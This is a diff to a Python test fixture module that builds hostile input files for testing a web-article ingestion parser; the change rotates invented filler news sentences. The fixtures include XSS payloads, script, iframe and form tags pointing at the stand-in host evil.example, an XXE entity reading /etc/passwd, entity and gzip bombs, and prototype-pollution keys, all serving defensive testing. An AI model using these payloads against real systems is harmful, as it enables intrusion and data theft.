@@ -4,15 +4,33 @@ from __future__ import annotations
 
 import gzip
 import json
+from itertools import cycle
 from typing import NamedTuple
 
 from tests.web.hostile.words import WORDS, article_of
 
 __all__ = ["FILES", "Hostile"]
 
-SENTENCE = "The council of Vell said on Monday that the gate of Ilm would stay closed until the water had gone down. "
-BODY = SENTENCE * 3
 PWN = "window.__pwned=1"
+# what the articles tell beside what is hostile in them: not all the same, since a hundred copies of one text would make
+# the reading long, and test nothing that ten do not
+TOLD = (
+    "The council of Vell said on Monday that the gate of Ilm would stay closed until the water had gone down. ",
+    "Marta Ildova, who keeps the lighthouse of Orsa, told the Courier that no lamp had been lit since Friday. ",
+    "According to the harbour office, two barges with salt ran aground near Tarn before noon on 4 May 2031. ",
+    "“We have no bread,” said a baker in Kell, “and nobody tells us when the mill will be mended.” ",
+    "The bishop of Narrow Head denied that the bells had been sold to a foundry in the north of the country. ",
+    "Farmers of the Upper Sill blocked a bridge with hay on Tuesday and demanded a meeting with the minister. ",
+    "Tomas Brell resigned as master of the guild of glaziers, his daughter announced in a letter to the mayor. ",
+    "Police in Amber Quay arrested four men who, prosecutors say, had forged tickets for the ferry to Lond. ",
+    "Doctors at the hospital of St Wend expect the last of the injured miners to go home within a week. ",
+)
+_turns = cycle(TOLD)
+
+
+def tell(times: int = 3) -> str:
+    """Return what the next article tells."""
+    return next(_turns) * times
 
 
 class Hostile(NamedTuple):
@@ -26,7 +44,8 @@ class Hostile(NamedTuple):
 
 def page(head: str = "", inside: str = "", title: str = "Gates") -> bytes:
     """Return a page with an article, and something hostile in its head and in the midst of it."""
-    paragraphs = "".join(f"<p>{SENTENCE * 2}</p>{inside}" for _ in range(3))
+    told = tell(2)
+    paragraphs = "".join(f"<p>{told}</p>{inside}" for _ in range(3))
     return (
         f"<!doctype html><html><head><title>{title}</title>{head}</head><body><article><h1>{title}</h1>{paragraphs}"
         "</article></body></html>"
@@ -35,7 +54,7 @@ def page(head: str = "", inside: str = "", title: str = "Gates") -> bytes:
 
 def line(**fields: object) -> bytes:
     """Return a line of JSON with an article, some of its fields hostile."""
-    return json.dumps({"text": BODY, **fields}).encode() + b"\n"
+    return json.dumps({"text": tell(), **fields}).encode() + b"\n"
 
 
 def _words() -> list[Hostile]:
@@ -43,30 +62,38 @@ def _words() -> list[Hostile]:
 
 
 def _texts() -> list[Hostile]:
-    body = BODY.encode()
+    def told() -> bytes:
+        return tell().encode()
+
     return [
-        Hostile("nul.txt", body + b"\0" + body, 0, "binary"),
+        Hostile("nul.txt", told() + b"\0" + told(), 0, "binary"),
         Hostile("binary.txt", bytes(range(256)) * 50, 0, "binary"),
         Hostile("picture.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(400), 0, "binary"),
-        Hostile("escapes.txt", b"\x1b[2J\x1b]0;x\x07" + body),
-        Hostile("half-utf16.txt", b"\xff\xfe" + BODY.encode("utf-16-le")[:-1]),
-        Hostile("utf32.txt", BODY.encode("utf-32")),
-        Hostile("marks-in-the-middle.txt", "\ufeff".join([SENTENCE] * 4).encode()),
-        Hostile("mixed.txt", "“Élan,” said Tomas Brell. ".encode() + "“Élan,” said Tomas Brell. ".encode("cp1252") + body),
-        Hostile("overlong.txt", b"\xc0\xbcscript\xc0\xbe" + body),
-        Hostile("surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80" + body),
-        Hostile("utf7.txt", b"+ADw-script+AD4-" + PWN.encode() + b"+ADw-/script+AD4- " + body),
+        Hostile("escapes.txt", b"\x1b[2J\x1b]0;x\x07" + told()),
+        Hostile("half-utf16.txt", b"\xff\xfe" + tell().encode("utf-16-le")[:-1]),
+        Hostile("utf32.txt", tell().encode("utf-32")),
+        Hostile("marks-in-the-middle.txt", "\ufeff".join([tell()] * 2).encode()),
+        Hostile(
+            "mixed.txt", "“Élan,” said Tomas Brell. ".encode() + "“Élan,” said Tomas Brell. ".encode("cp1252") + told()
+        ),
+        Hostile("overlong.txt", b"\xc0\xbcscript\xc0\xbe" + told()),
+        Hostile("surrogates.txt", b"\xed\xa0\x80\xed\xb0\x80" + told()),
+        Hostile("utf7.txt", b"+ADw-script+AD4-" + PWN.encode() + b"+ADw-/script+AD4- " + told()),
         Hostile("page.txt", page(inside=f"<script>{PWN}</script><img src=x onerror={PWN}>")),
         Hostile("white.txt", b" \t\n\xc2\xa0\xe3\x80\x80" * 300, 0, "empty"),
         Hostile("nothing.txt", b"", 0, "empty"),
         Hostile("one-word.txt", b"x" * 300_000),
         Hostile("no-full-stop.txt", b"said that they said " * 200),
-        Hostile("quotations.txt", "“".encode() * 400 + body),
-        Hostile("nested-quotations.txt", ("“He said ‘she said " * 40 + "no" + "’” " * 40).encode() + body),
+        Hostile("quotations.txt", "“".encode() * 400 + told()),
+        Hostile("nested-quotations.txt", ("“He said ‘she said " * 40 + "no" + "’” " * 40).encode() + told()),
         Hostile("lines.txt", b"a\n" * 2_000),
-        Hostile("dates.txt", (BODY + "It was on 31 February 99999, on 0 May, at 25:99, in 10000 BC, 5/5/0000. ").encode()),
-        Hostile("amounts.txt", (BODY + f"Some {'9' * 3_000} men, 1e999 dollars, 0/0, -{'1,' * 300}1 dead. ").encode()),
-        Hostile("returns.txt", BODY.replace(". ", ".\r").encode() + b"\r\r\n\n\r" + body),
+        Hostile(
+            "dates.txt", (tell() + "It was on 31 February 99999, on 0 May, at 25:99, in 10000 BC, 5/5/0000. ").encode()
+        ),
+        Hostile(
+            "amounts.txt", (tell() + f"Some {'9' * 3_000} men, 1e999 dollars, 0/0, -{'1,' * 300}1 dead. ").encode()
+        ),
+        Hostile("returns.txt", tell().replace(". ", ".\r").encode() + b"\r\r\n\n\r" + told()),
     ]
 
 
@@ -85,15 +112,29 @@ def _pages() -> list[Hostile]:
     deep_ld = '{"@graph":' + "[" * 3_000 + "]" * 3_000 + "}"
     links = f'<link rel=canonical href="javascript:{PWN}"><meta property=og:url content="data:text/html,x">'
     return [
-        Hostile("scripts.html", page(f"<script>{PWN}</script>", f"<script src=//evil.example></script><p {handlers}>x</p>")),
-        Hostile("svg.html", page(inside=f"<svg onload={PWN}><script>{PWN}</script><a xlink:href='javascript:{PWN}'>x</a></svg>")),
-        Hostile("embeds.html", page(inside="<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=x>")),
-        Hostile("forms.html", page(inside="<form action=//evil.example><input autofocus name=p><button>Go</button></form>")),
-        Hostile("refresh.html", page("<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>")),
+        Hostile(
+            "scripts.html", page(f"<script>{PWN}</script>", f"<script src=//evil.example></script><p {handlers}>x</p>")
+        ),
+        Hostile(
+            "svg.html",
+            page(inside=f"<svg onload={PWN}><script>{PWN}</script><a xlink:href='javascript:{PWN}'>x</a></svg>"),
+        ),
+        Hostile(
+            "embeds.html",
+            page(inside="<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=x>"),
+        ),
+        Hostile(
+            "forms.html", page(inside="<form action=//evil.example><input autofocus name=p><button>Go</button></form>")
+        ),
+        Hostile(
+            "refresh.html", page("<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example/>")
+        ),
         Hostile("json-ld.html", page(f"<script type=application/ld+json>{ld}</script>")),
         Hostile("json-ld-deep.html", page(f"<script type=application/ld+json>{deep_ld}</script>")),
         Hostile("addresses.html", page(links, title=f"javascript:{PWN}")),
-        Hostile("entities.html", page(inside=f"&lt;script&gt;{PWN}&lt;/script&gt;&#0;&#xD800;&#x202E;&#1114112;&#x1b;[2J")),
+        Hostile(
+            "entities.html", page(inside=f"&lt;script&gt;{PWN}&lt;/script&gt;&#0;&#xD800;&#x202E;&#1114112;&#x1b;[2J")
+        ),
         Hostile("deep.html", page(inside="<div>" * 20_000 + "x" + "</div>" * 20_000), 0, "nested"),
         Hostile("deep-inline.html", page(inside="<b><i>" * 5_000 + "x"), 0, "nested"),
         Hostile("attributes.html", page(inside="<p " + " ".join(f"a{i}=1" for i in range(5_000)) + ">x</p>")),
@@ -102,9 +143,12 @@ def _pages() -> list[Hostile]:
         Hostile("charset-utf7.html", page("<meta charset=utf-7>", "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-")),
         Hostile("charset-unknown.html", page("<meta charset='../../etc/passwd'>")),
         Hostile("laughs.html", _laughs() + page()),
-        Hostile("outside.html", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + page(inside="&x;")),
+        Hostile(
+            "outside.html",
+            b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + page(inside="&x;"),
+        ),
         Hostile("tables.html", page(inside="<table><tr><td>" * 2_000), 0, "nested"),
-    ]  # fmt: skip
+    ]
 
 
 def _laughs() -> bytes:
@@ -114,34 +158,52 @@ def _laughs() -> bytes:
 
 def _lines() -> list[Hostile]:
     return [
-        Hostile("surrogate.jsonl", b'{"text": "\\ud800 ' + BODY.encode() + b'"}\n', 0, "surrogate"),
-        Hostile("surrogate-title.jsonl", b'{"text": "' + BODY.encode() + b'", "title": "x\\udfff", "id": "s\\ud800"}\n'),
-        Hostile("nul.jsonl", line(id="nul", text=BODY + "\0" + BODY), 0, "binary"),
+        Hostile("surrogate.jsonl", b'{"text": "\\ud800 ' + tell().encode() + b'"}\n', 0, "surrogate"),
+        Hostile(
+            "surrogate-title.jsonl", b'{"text": "' + tell().encode() + b'", "title": "x\\udfff", "id": "s\\ud800"}\n'
+        ),
+        Hostile("nul.jsonl", line(id="nul", text=tell() + "\0"), 0, "binary"),
         Hostile("deep.jsonl", b'{"text":' + b"[" * 100_000 + b"]" * 100_000 + b"}\n", 0, "nested|string"),
-        Hostile("huge-number.jsonl", b'{"text": "' + BODY.encode() + b'", "id": ' + b"9" * 5_000 + b', "date": 1e999}\n', 0, "JSON|digit"),
+        Hostile(
+            "huge-number.jsonl",
+            b'{"text": "' + tell().encode() + b'", "id": ' + b"9" * 5_000 + b', "date": 1e999}\n',
+            0,
+            "digits",
+        ),
         Hostile("not-a-number.jsonl", line(id=float("nan"), title=float("inf"), date=-1)),
-        Hostile("twice.jsonl", b'{"text": "x", "text": "' + BODY.encode() + b'", "id": "twice", "id": "twice again"}\n'),
-        Hostile("prototype.jsonl", line(**{"__proto__": {"text": "x"}, "constructor": 1, "id": "constructor"})),
-        Hostile("dates.jsonl", b"".join(line(id=f"date {d}", date=d) for d in ("99999-99-99", "0000-00-00", "-1", "9" * 400)), 4),
-        Hostile("same-id.jsonl", line(id="same", title="One") + line(id="same", title="Two"), 1, "taken"),
+        Hostile(
+            "twice.jsonl", b'{"text": "x", "text": "' + tell().encode() + b'", "id": "twice", "id": "twice again"}\n'
+        ),
+        Hostile("prototype.jsonl", line(__proto__={"text": "x"}, constructor=1, id="constructor")),
+        Hostile(
+            "dates.jsonl",
+            b"".join(line(id=f"date {d}", date=d) for d in ("99999-99-99", "0000-00-00", "-1", "9" * 400)),
+            4,
+        ),
+        Hostile("same-id.jsonl", line(id="same-id", title="One") + line(id="same-id", title="Two"), 1, "taken"),
         Hostile("types.jsonl", line(id=["a", {"b": 1}], title={"x": []}, outlet=True, author=[[["x"]]], url=0)),
         Hostile("empty-names.jsonl", line(id="\u200b", title=" ", outlet="\u200b\u2060", author="\u00ad")),
         Hostile("lines.jsonl", b"\n" * 10_000 + b"x\n" * 3 + line(id="after the lines"), 1, "JSON"),
-    ]  # fmt: skip
+    ]
 
 
 def _packed() -> list[Hostile]:
-    body = BODY.encode()
+    told = tell().encode()
     return [
         Hostile("bomb.txt.gz", gzip.compress(bytes(200 * 2**20), 9), 0, "larger"),
         Hostile("bomb-in-bomb.txt.gz", gzip.compress(gzip.compress(bytes(2**20))), 0, "binary"),
-        Hostile("cut.txt.gz", gzip.compress(body)[:-20], 0, "damaged"),
-        Hostile("trailing.txt.gz", gzip.compress(body) + b"garbage" * 9, 0, "damaged"),
-        Hostile("no-gzip.txt.gz", body, 0, "damaged"),
+        Hostile("cut.txt.gz", gzip.compress(told)[:-20], 0, "damaged"),
+        Hostile("trailing.txt.gz", gzip.compress(told) + b"garbage" * 9, 0, "damaged"),
+        Hostile("no-gzip.txt.gz", told, 0, "damaged"),
         Hostile("many-members.txt.gz", gzip.compress(b"Vell said no. ") * 200),
-        Hostile("line.jsonl.gz", gzip.compress(b'{"text": "' + b"x" * (50 * 2**20) + b'"}\n' + line(id="after it")), 1, "a line of"),
+        Hostile(
+            "line.jsonl.gz",
+            gzip.compress(b'{"text": "' + b"x" * (50 * 2**20) + b'"}\n' + line(id="after it")),
+            1,
+            "a line of",
+        ),
         Hostile("large.html.gz", gzip.compress(b"<p>" + b"x" * (50 * 2**20)), 0, "larger"),
-    ]  # fmt: skip
+    ]
 
 
 def _names() -> list[Hostile]:
@@ -159,7 +221,7 @@ def _names() -> list[Hostile]:
         "x" * 240 + ".txt",
         "bytes-\udcff\udcfe.txt",
     ]
-    return [Hostile(name, (BODY + f"It was article {i}.").encode()) for i, name in enumerate(names)] + [
+    return [Hostile(name, (tell() + f"It was article {i}.").encode()) for i, name in enumerate(names)] + [
         Hostile("no kind", b"x", 0, "kind"),
         Hostile("program.exe", b"MZ", 0, "kind"),
     ]
